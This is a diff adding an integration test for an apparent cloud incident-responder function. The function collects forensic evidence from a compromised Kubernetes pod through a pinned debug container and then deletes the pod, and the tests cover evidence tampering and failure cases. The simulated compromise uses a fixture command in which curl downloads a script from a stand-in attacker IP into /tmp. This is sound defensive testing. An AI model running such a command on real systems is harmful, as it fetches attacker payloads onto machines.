@@ -1,0 +1,334 @@
+// "The attacker must not decide whether we contain": the whole function (Functions Framework
+// test server, real composition root, real client libraries) in enforce mode against the fake
+// API server's process table and ephemeral containers, one scenario per way the target can
+// withhold evidence and per way our side can fail. Each asserts on the fake's request log
+// (PATCH ephemeralcontainers, EXECs, DELETE and their order) and reports the time from the
+// finding's delivery to the DELETE.
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import type { Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test, type TestContext } from 'node:test';
+import { getTestServer } from '@google-cloud/functions-framework/testing';
+import { configureResponder, FUNCTION_NAME } from '../../functions/scc-responder/index.js';
+import { captureAudit, OPERATION } from '../support/audit-capture.js';
+import { fixture, listenOnLoopback, postStructured, structuredEvent } from '../support/cloudevents.js';
+import type { FakeContainerSpec, FakeProcess, FakeWrite } from '../support/fake-kube.js';
+import { DEPLOY_POD, NODE, NS } from '../support/fake-kube-world.js';
+import { BUCKET, FIXTURE_BINARY, startStack, type Stack } from '../support/stack.js';
+
+const TIMEOUT_SECONDS = 4;
+const POD_PATH = `/api/v1/namespaces/${NS}/pods/${DEPLOY_POD}`;
+const CURL = '/usr/bin/curl';
+const ARGS = ['/usr/bin/curl', '-s', 'http://203.0.113.50/x.sh', '-o', '/tmp/x'];
+const FIXTURE_SHA = createHash('sha256').update(FIXTURE_BINARY).digest('hex');
+
+const POLICY_YAML = `version: 1
+snapshot:
+  timeoutSeconds: ${TIMEOUT_SECONDS}
+enrich:
+  callTimeoutSeconds: 5
+rules:
+  - name: contain
+    match:
+      categories: ["Execution: Modified Malicious Binary Executed"]
+      namespaces: ["${NS}"]
+    mode: enforce
+    actions:
+      - type: labelPod
+      - type: deletePod
+        gracePeriodSeconds: 0
+    maxActionsPerHour: 10000
+`;
+
+let stack: Stack;
+let server: Server;
+let url: string;
+let dir: string;
+const audit = captureAudit();
+const timings: string[] = [];
+
+/** The curl process from the finding, with its connection to the payload server. */
+function curlProcess(over: Partial<FakeProcess> = {}): FakeProcess {
+  return {
+    pid: 7, ppid: 1, exe: CURL, exeFile: { content: FIXTURE_BINARY }, cmdline: ARGS, startTime: 5000,
+    fds: { 0: '/dev/null', 1: 'pipe:[100]', 3: 'socket:[4711]' },
+    maps: [`5583a1e00000-5583a1e21000 r-xp 00000000 08:01 1234 ${CURL}`, '7f3c2a000000-7f3c2a1c0000 r-xp 00000000 08:01 99 /lib/x86_64-linux-gnu/libc.so.6'],
+    sockets: [{ proto: 'tcp', local: '10.8.0.12:43122', remote: '203.0.113.50:80', state: 1, inode: 4711 }],
+    ...over,
+  };
+}
+
+const MAIN: FakeProcess = { pid: 1, exe: '/usr/local/bin/checkout', exeFile: { content: Buffer.from('checkout server') }, cmdline: ['/usr/local/bin/checkout', '--port=8080'], sockets: [{ proto: 'tcp6', local: '[::]:8080', remote: '[::]:0', state: 10, inode: 900 }], fds: { 4: 'socket:[900]' } };
+
+/** A fresh compromised pod: the finding's pod, created an hour ago, with this container. */
+function freshPod(container: Partial<FakeContainerSpec>): string {
+  const uid = `pod-${Math.random().toString(16).slice(2, 10)}`;
+  stack.world.kube.addPod({
+    namespace: NS, name: DEPLOY_POD, uid, creationTimestamp: new Date(Date.now() - 3_600_000).toISOString(), nodeName: NODE,
+    labels: { app: 'checkout', 'pod-template-hash': '7d9f8b6c5d' },
+    ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'checkout-7d9f8b6c5d', uid: 'rs-checkout', controller: true }],
+    containers: [{ name: 'checkout', image: 'us-docker.pkg.dev/acme-payments-prod/apps/checkout:2.14.1', files: { [CURL]: { content: FIXTURE_BINARY } }, processes: [MAIN, curlProcess()], ...container }],
+  });
+  return uid;
+}
+
+function freshFinding(): { notification: Record<string, unknown>; findingName: string; findingId: string } {
+  const n = structuredClone(fixture('modified-malicious-binary.v1.json')) as { finding: { name: string; canonicalName?: string; eventTime: string } };
+  const findingId = `tc${Math.random().toString(16).slice(2, 14)}`;
+  n.finding.eventTime = new Date().toISOString();
+  n.finding.name = n.finding.name.replace(/[^/]+$/, findingId);
+  if (n.finding.canonicalName) n.finding.canonicalName = n.finding.canonicalName.replace(/[^/]+$/, findingId);
+  return { notification: n as unknown as Record<string, unknown>, findingName: n.finding.name, findingId };
+}
+
+interface Outcome {
+  status: number;
+  findingName: string;
+  findingId: string;
+  t0: number;
+  writes: FakeWrite[];
+  execs: { container: string; argv: string[] }[];
+  deleteAt?: number;
+  entries: Record<string, unknown>[];
+  marks: Record<string, string>;
+  object(name: string): Promise<Record<string, unknown> | undefined>;
+  text(name: string): Promise<string | undefined>;
+  objectTime(name: string): number | undefined;
+}
+
+async function deliver(t: TestContext, label: string): Promise<Outcome> {
+  audit.clear();
+  const kube = stack.world.kube;
+  const writesBefore = kube.writes.length;
+  const callsBefore = kube.faults.calls.length;
+  const { notification, findingName, findingId } = freshFinding();
+  const t0 = Date.now();
+  const status = (await postStructured(url, structuredEvent(notification))).status;
+  const writes = kube.writes.slice(writesBefore).filter((w) => w.path.startsWith(POD_PATH));
+  const execs = kube.faults.calls.slice(callsBefore).filter((c) => c.key.startsWith('EXEC ')).map((c) => ({ container: c.key.split('/').pop() ?? '', argv: (c.detail as { argv: string[] }).argv }));
+  const del = writes.find((w) => w.method === 'DELETE');
+  const deleteAt = del?.at;
+  const line = `${label}: ${deleteAt === undefined ? 'no DELETE' : `finding -> DELETE ${deleteAt - t0} ms`} (status ${status})`;
+  timings.push(line);
+  t.diagnostic(line);
+  const find = (name: string) => stack.gcs.objects(BUCKET).find((o) => o.name.endsWith(`/${findingId}/${name}`));
+  return {
+    status, findingName, findingId, t0, writes, execs, ...(deleteAt === undefined ? {} : { deleteAt }),
+    entries: audit.entries().filter((e) => (e[OPERATION] as { id?: string } | undefined)?.id === findingName),
+    marks: stack.scc.marksOf(findingName) ?? {},
+    object: async (name) => {
+      const o = find(name);
+      return o ? (JSON.parse((await stack.gcs.read(BUCKET, o.name)).toString('utf8')) as Record<string, unknown>) : undefined;
+    },
+    text: async (name) => {
+      const o = find(name);
+      return o ? (await stack.gcs.read(BUCKET, o.name)).toString('utf8') : undefined;
+    },
+    objectTime: (name) => {
+      const o = find(name);
+      return o ? Date.parse(o.timeCreated) : undefined;
+    },
+  };
+}
+
+const ephemeralPatches = (o: Outcome): FakeWrite[] => o.writes.filter((w) => w.method === 'PATCH' && w.path.endsWith('/ephemeralcontainers'));
+const containerExecs = (o: Outcome): { container: string; argv: string[] }[] => o.execs.filter((e) => e.container === 'checkout');
+const warnings = (o: Outcome): string[] => o.entries.filter((e) => e['severity'] === 'WARNING').map((e) => String(e['message']));
+
+function assertDeletedAfter(o: Outcome, ...artefacts: string[]): void {
+  assert.ok(o.deleteAt !== undefined, 'the pod was deleted');
+  for (const a of artefacts) {
+    const at = o.objectTime(a);
+    assert.ok(at !== undefined && at <= o.deleteAt, `${a} was stored before the DELETE`);
+  }
+  const del = o.writes.find((w) => w.method === 'DELETE');
+  assert.deepEqual((del?.body as { preconditions?: unknown } | undefined)?.preconditions !== undefined, true, 'DELETE carries preconditions');
+}
+
+before(async () => {
+  dir = mkdtempSync(join(tmpdir(), 'trusted-collector-'));
+  const policyFile = join(dir, 'policy.yaml');
+  writeFileSync(policyFile, POLICY_YAML);
+  stack = await startStack();
+  configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: policyFile }), auditDestination: audit.destination });
+  server = getTestServer(FUNCTION_NAME);
+  url = await listenOnLoopback(server);
+});
+
+after(async () => {
+  server.close();
+  configureResponder(undefined);
+  await stack.close();
+  rmSync(dir, { recursive: true, force: true });
+  process.stdout.write(`# trusted-collector timings (finding -> DELETE):\n${timings.map((l) => `#   ${l}`).join('\n')}\n`);
+});
+
+describe('trusted collector in enforce mode (requireEvidence: attempted, the default)', () => {
+  test('binary deleted after execution, process still running: copied from /proc/<pid>/exe, hash matches, deleted after the copy', async (t) => {
+    freshPod({ files: {} }); // the attacker rm'd it; pid 7 still runs it
+    const o = await deliver(t, 'deleted, process running');
+    assert.equal(o.status, 204);
+    const patch = ephemeralPatches(o);
+    assert.equal(patch.length, 1, 'one collector added');
+    const spec = (patch[0]?.body as { spec: { ephemeralContainers: Record<string, unknown>[] } }).spec.ephemeralContainers[0];
+    assert.equal(spec?.['targetContainerName'], 'checkout');
+    assert.match(String(spec?.['image']), /@sha256:[0-9a-f]{64}$/);
+    assert.deepEqual((spec?.['securityContext'] as { capabilities?: unknown }).capabilities, { drop: ['ALL'] });
+    assert.deepEqual(containerExecs(o), [], "the container's own tools were never run");
+    const manifest = await o.object('manifest.json');
+    assert.equal(manifest?.['source'], '/proc/7/exe');
+    assert.equal(manifest?.['verdict'], 'matches');
+    assert.equal(manifest?.['trust'], 'pinned-debug-image');
+    assert.equal(manifest?.['counts'], true);
+    assert.deepEqual((manifest?.['process'] as { pid: number }).pid, 7);
+    const volatile = await o.object('volatile.json');
+    assert.deepEqual(volatile?.['suspects'], [7]);
+    const sockets = volatile?.['sockets'] as { remote: string; pids: number[] }[];
+    assert.ok(sockets.some((s) => s.remote === '203.0.113.50:80' && s.pids.includes(7)), JSON.stringify(sockets));
+    const procs = volatile?.['processes'] as { pid: number; exe?: string }[];
+    assert.equal(procs.find((p) => p.pid === 7)?.exe, `${CURL} (deleted)`);
+    assert.equal((manifest?.['volatile'] as { sha256: string }).sha256, createHash('sha256').update(await stack.gcs.read(BUCKET, stack.gcs.objects(BUCKET).find((x) => x.name.endsWith(`/${o.findingId}/volatile.json`))?.name ?? '')).digest('hex'));
+    assertDeletedAfter(o, 'binary', 'volatile.json');
+    assert.equal(o.marks['scc_responder_hash'], 'matches');
+    assert.equal(o.marks['scc_responder_state'], 'contained');
+    assert.ok(warnings(o).some((w) => /deleted \/usr\/bin\/curl after running it/.test(w)), 'the deletion is recorded as significant');
+    // The markdown report: where it talked to, first among the volatile lines.
+    const md = (await o.text('report.md')) ?? '';
+    const remote = md.indexOf('| Remote endpoint | 203.0.113.50:80 tcp ESTABLISHED from 10.8.0.12:43122 pid 7 |');
+    assert.ok(remote > 0, md);
+    assert.ok(remote < md.indexOf('| Volatile state |') && md.indexOf('| Volatile state |') < md.indexOf('| Listening |'), 'remote endpoints first');
+    assert.match(md, /\| Copied with \| debug-container \(pinned-debug-image\) from \/proc\/7\/exe/);
+  });
+
+  test('binary deleted and the process exited: no copy, volatile state stored, pod deleted, report and marks say the target destroyed it', async (t) => {
+    freshPod({ files: {}, processes: [MAIN] });
+    const o = await deliver(t, 'deleted, process exited');
+    assert.equal(o.status, 204);
+    assert.equal(ephemeralPatches(o).length, 1);
+    assert.equal(o.objectTime('binary'), undefined, 'no copy');
+    const volatile = await o.object('volatile.json');
+    assert.deepEqual(volatile?.['suspects'], []);
+    assertDeletedAfter(o, 'volatile.json');
+    assert.equal(o.marks['scc_responder_hash'], 'withheld-by-target');
+    assert.equal(o.marks['scc_responder_state'], 'contained');
+    assert.ok(warnings(o).some((w) => /evidence destroyed or withheld by the target/.test(w)), warnings(o).join('\n'));
+    const report = await o.object('report.json');
+    assert.match(JSON.stringify(report ?? {}), /evidence destroyed or withheld by the target/);
+  });
+
+  test('the image has no cat and no tar: the trusted path works without them', async (t) => {
+    freshPod({ tools: [] });
+    const o = await deliver(t, 'no cat, no tar');
+    assert.equal(o.status, 204);
+    assert.deepEqual(containerExecs(o), []);
+    const manifest = await o.object('manifest.json');
+    assert.equal(manifest?.['verdict'], 'matches');
+    assert.equal(manifest?.['source'], '/proc/7/exe');
+    assertDeletedAfter(o, 'binary');
+  });
+
+  test("the container's cat returns other bytes: the copy is kept, marked differs, not the evidence, the pod is deleted", async (t) => {
+    // The collector cannot read the process (not dumpable, as after a setuid exec; no CAP_SYS_PTRACE): the container's lying cat is all that is left.
+    freshPod({ processes: [MAIN, curlProcess({ dumpable: false })], lyingCat: Buffer.from('totally innocent\n') });
+    const o = await deliver(t, 'lying cat');
+    assert.equal(o.status, 204);
+    assert.deepEqual(containerExecs(o).map((e) => e.argv), [['cat', '--', CURL]]);
+    const manifest = await o.object('manifest.json');
+    assert.equal(manifest?.['verdict'], 'differs');
+    assert.equal(manifest?.['trust'], 'container-tool');
+    assert.equal(manifest?.['counts'], false);
+    assert.match(String(manifest?.['doesNotCountBecause']), /may have lied/);
+    assertDeletedAfter(o, 'binary');
+    assert.equal(o.marks['scc_responder_hash'], 'differs');
+  });
+
+  test("the container's cat never ends: the deadline passes and the pod is deleted within deadline + 1 s", async (t) => {
+    freshPod({ processes: [MAIN, curlProcess({ dumpable: false })] });
+    stack.world.kube.faults.inject({ match: `EXEC ${NS}/${DEPLOY_POD}/checkout`, hang: true, times: Number.POSITIVE_INFINITY });
+    let o: Outcome;
+    try {
+      o = await deliver(t, 'cat hangs');
+    } finally {
+      stack.world.kube.faults.clear();
+    }
+    assert.equal(o.status, 204);
+    const started = ephemeralPatches(o)[0]?.at;
+    assert.ok(started !== undefined && o.deleteAt !== undefined, 'collector started, pod deleted');
+    assert.ok(o.deleteAt - started <= TIMEOUT_SECONDS * 1000 + 1000, `DELETE ${o.deleteAt - started} ms after the snapshot began`);
+    assert.equal(o.marks['scc_responder_hash'], 'withheld-by-target');
+    assert.ok(warnings(o).some((w) => /did not finish within/.test(w)), warnings(o).join('\n'));
+  });
+
+  test('the evidence store is down (our side): no DELETE, the delivery is retried', async (t) => {
+    freshPod({});
+    stack.gcs.faults.inject({ match: /^GET \/storage\/v1\/b\/[^/]+\/o\/.*binary$/, status: 503, times: Number.POSITIVE_INFINITY });
+    let o: Outcome;
+    try {
+      o = await deliver(t, 'store down');
+    } finally {
+      stack.gcs.faults.clear();
+    }
+    assert.equal(o.status, 500, 'Pub/Sub redelivers');
+    assert.equal(o.deleteAt, undefined, 'no DELETE');
+    assert.ok(stack.gcs.faults.calls.some((c) => c.fault !== undefined), 'the store fault was hit');
+  });
+
+  test('ephemeral containers forbidden by RBAC (our side): no DELETE, an ERROR entry naming the missing permission', async (t) => {
+    freshPod({});
+    stack.world.kube.faults.inject({
+      match: `PATCH ${POD_PATH}/ephemeralcontainers`,
+      status: 403,
+      message: `pods "${DEPLOY_POD}" is forbidden: User "scc-responder@acme-security.iam.gserviceaccount.com" cannot patch resource "pods/ephemeralcontainers" in API group "" in the namespace "${NS}"`,
+      times: Number.POSITIVE_INFINITY,
+    });
+    let o: Outcome;
+    try {
+      o = await deliver(t, 'RBAC forbids ephemeral containers');
+    } finally {
+      stack.world.kube.faults.clear();
+    }
+    assert.equal(o.status, 204, 'permanent: acked');
+    assert.equal(o.deleteAt, undefined, 'no DELETE');
+    const errors = o.entries.filter((e) => e['severity'] === 'ERROR').map((e) => String(e['message']));
+    assert.ok(errors.some((m) => /patch on pods\/ephemeralcontainers/.test(m)), errors.join('\n'));
+    assert.deepEqual(containerExecs(o), [], 'the container tools do not stand in for our own failure');
+  });
+
+  test('dry-run stays write-free: no ephemeral container, and the report says what enforce would collect', async (t) => {
+    const policyFile = join(dir, 'dry-run.yaml');
+    writeFileSync(policyFile, POLICY_YAML.replace('mode: enforce', 'mode: dry-run'));
+    configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: policyFile }), auditDestination: audit.destination });
+    try {
+      freshPod({ tools: [] }); // no cat, no tar: the case that used to add a debug container in dry-run
+      const o = await deliver(t, 'dry-run');
+      assert.equal(o.status, 204);
+      assert.deepEqual(o.writes, [], 'no write to the pod at all');
+      const report = await o.object('report.json');
+      const collector = (report?.['evidence'] as { collector?: { used: boolean; reason?: string } } | undefined)?.collector;
+      assert.equal(collector?.used, false);
+      assert.match(collector?.reason ?? '', /dry-run.*In enforce, the collector .*@sha256:[0-9a-f]{64} would be added/);
+    } finally {
+      configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: join(dir, 'policy.yaml') }), auditDestination: audit.destination });
+    }
+  });
+
+  test('negative control: with requireEvidence: stored, a deleted binary keeps the pod (the old gate the attacker could hold shut)', async (t) => {
+    const policyFile = join(dir, 'stored.yaml');
+    writeFileSync(policyFile, POLICY_YAML.replace('version: 1\n', 'version: 1\nrequireEvidence: stored\n'));
+    configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: policyFile }), auditDestination: audit.destination });
+    try {
+      freshPod({ files: {}, processes: [MAIN] });
+      const o = await deliver(t, 'negative control (stored)');
+      assert.equal(o.deleteAt, undefined, 'the strict gate holds the DELETE');
+      assert.ok(o.objectTime('volatile.json') !== undefined, 'volatile state is still collected');
+    } finally {
+      configureResponder({ env: stack.env({ SCC_RESPONDER_POLICY: join(dir, 'policy.yaml') }), auditDestination: audit.destination });
+    }
+  });
+});
+
+// The fixture's hash is sha256("test"): the stack's FIXTURE_BINARY.
+assert.equal(FIXTURE_SHA, '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08');
